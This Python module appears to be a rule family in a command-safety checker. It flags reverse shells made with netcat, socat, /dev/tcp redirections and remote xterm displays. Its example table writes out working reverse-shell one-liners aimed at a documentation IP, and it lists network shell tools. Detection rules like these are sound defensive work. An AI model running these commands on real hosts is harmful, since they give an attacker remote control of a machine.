"""Shells that take their commands from the network."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from itertools import pairwise

from ..judge.invocation import Invocation
from ..verdict import Found
from .names import names
from .rule import Family, approve, block

REVERSE = block("reverse-shell.connected", "connects a shell to the network", "use ssh")
PROGRAM = approve("reverse-shell.program", "lets whoever connects talk to a program of this machine")
LISTENER = approve(
    "reverse-shell.listener", "waits on the network for anybody to connect", "bind it to 127.0.0.1"
)
REDIRECTED = block("reverse-shell.redirected", "connects a shell to the network by redirections", "use ssh")
DISPLAY = block("reverse-shell.display", "shows a terminal of this machine on another's screen")

_NETCATS = names(
    "nc ncat netcat nc.traditional nc.openbsd cryptcat pwncat pwncat-cs rustcat rcat powercat socat "
    "openbsd-nc"
)
_SHELLS = names(
    "bash sh zsh dash ksh fish ash tcsh csh pwsh powershell cmd busybox python python3 perl ruby php node"
)
_SHELL_WORD = re.compile(
    r"(?:^|[/\s,\"'])(?:(?:ba|z|da|k|a|fi|tc|c)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|python[\d.]*|perl|busybox)(?:[\s,\"']|\Z)"
)
_NETWORK = ("/dev/tcp/", "/dev/udp/")


def _netcat(invocation: Invocation) -> Iterator[Found]:
    name = invocation.name
    words = invocation.words()
    if name == "socat":
        yield from _socat(invocation, words)
        return
    if name in ("pwncat", "pwncat-cs", "powercat"):
        yield REVERSE.found(invocation.part)
        return
    for index, word in enumerate(words):
        value = ""
        if word in ("--exec", "--sh-exec", "--lua-exec"):
            value = words[index + 1] if index + 1 < len(words) else "?"
        elif word.startswith(("--exec=", "--sh-exec=", "--lua-exec=")):
            value = word.partition("=")[2]
        elif word.startswith("-") and not word.startswith("--") and len(word) > 1:
            letters = word[1:]
            at = next((place for place, letter in enumerate(letters) if letter in "ec"), -1)
            if at < 0 or any(letter in "pswiIOTXxq" for letter in letters[:at]):
                continue
            value = letters[at + 1 :] or (words[index + 1] if index + 1 < len(words) else "")
            if letters[at] == "c" and not _SHELL_WORD.search(value):
                continue
        if value:
            yield (REVERSE if _SHELL_WORD.search(value) else PROGRAM).found(
                invocation.part, value.replace("\0", "?")
            )
            return
    local = any(word in ("localhost", "127.0.0.1", "::1") for word in words)
    listens = any(word == "--listen" or re.match(r"-[a-zA-Z]*l[a-zA-Z]*\d*\Z", word) for word in words)
    if listens and not local:
        yield LISTENER.found(invocation.part)


def _socat(invocation: Invocation, words: list[str]) -> Iterator[Found]:
    runs = [word for word in words if re.match(r"(?:EXEC|SYSTEM|SHELL)(?:[:,]|\Z)", word, re.IGNORECASE)]
    network = any(
        re.match(r"(?:TCP|UDP|SCTP|OPENSSL|SSL|SOCKS|PROXY|VSOCK|DTLS|WS)", word, re.IGNORECASE)
        for word in words
    )
    for word in runs:
        if network:
            yield (
                REVERSE if _SHELL_WORD.search(word.partition(":")[2]) or ":" not in word else PROGRAM
            ).found(invocation.part, word)
            return


def _check(invocation: Invocation) -> Iterable[Found]:
    if invocation.name in _NETCATS:
        return _netcat(invocation)
    if invocation.name in ("xterm", "rxvt", "urxvt"):
        return _display(invocation)
    return _redirected(invocation) if invocation.redirects else ()


def _display(invocation: Invocation) -> Iterator[Found]:
    words = invocation.words()
    for first, second in pairwise(words):
        if (
            first in ("-display", "--display")
            and re.match(r"[\w.-]+:\d", second)
            and not second.startswith(("localhost:", "127."))
        ):
            yield DISPLAY.found(invocation.part, second)


def _redirected(invocation: Invocation) -> Iterator[Found]:
    """bash -i >& /dev/tcp/host/port."""
    joined = [target for target in invocation.redirects if target.op in ("<&", ">&") and not target.arg.known]
    ends = {target.fd or ("0" if target.op == "<&" else "1") for target in joined}
    if {"0", "1"} <= ends:
        # Both ends at a descriptor that some command opened: the one of ztcp is said in REPLY.
        connected = any(target.arg.variable == "REPLY" for target in joined)
        yield (REDIRECTED if connected else PROGRAM).found(invocation.part)
        return
    for target in invocation.redirects:
        if target.arg.text.startswith(_NETWORK):
            script = any(word == "-c" for word in invocation.words())
            reads = target.op in ("<", "<>", "<&")
            if reads or not script or target.op in (">&", "&>"):
                yield REDIRECTED.found(invocation.part, target.arg.text.replace("\0", "?"))
                return


FAMILY = Family(
    "reverse-shells",
    _NETCATS | _SHELLS | names("xterm rxvt urxvt"),
    _check,
    examples=(
        ("nc -e /bin/sh 203.0.113.5 4444", "reverse-shell.connected"),
        ("ncat -lvp 4444 --exec /bin/bash", "reverse-shell.connected"),
        ("ncat 203.0.113.5 4444 -c 'bash -i'", "reverse-shell.connected"),
        ("socat TCP:203.0.113.5:4444 EXEC:/bin/bash,pty,stderr", "reverse-shell.connected"),
        ("socat tcp-listen:4444,reuseaddr,fork system:'sh -i'", "reverse-shell.connected"),
        ("nc -l 8080", "reverse-shell.listener"),
        ("nc -l 9000 -e /usr/bin/sort", "reverse-shell.program"),
        ("sh < /dev/tcp/203.0.113.5/4444", "reverse-shell.redirected"),
        ("ztcp 203.0.113.5 44 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY", "reverse-shell.redirected"),
        ("xterm -display 203.0.113.5:1", "reverse-shell.display"),
    ),
    silent=(
        "nc -l 127.0.0.1 8080",
        "nc -zv localhost 5432",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        "bash run.sh > out.log",
        "python3 server.py < input.txt",
    ),
    rules=(REVERSE, PROGRAM, LISTENER, REDIRECTED, DISPLAY),
)
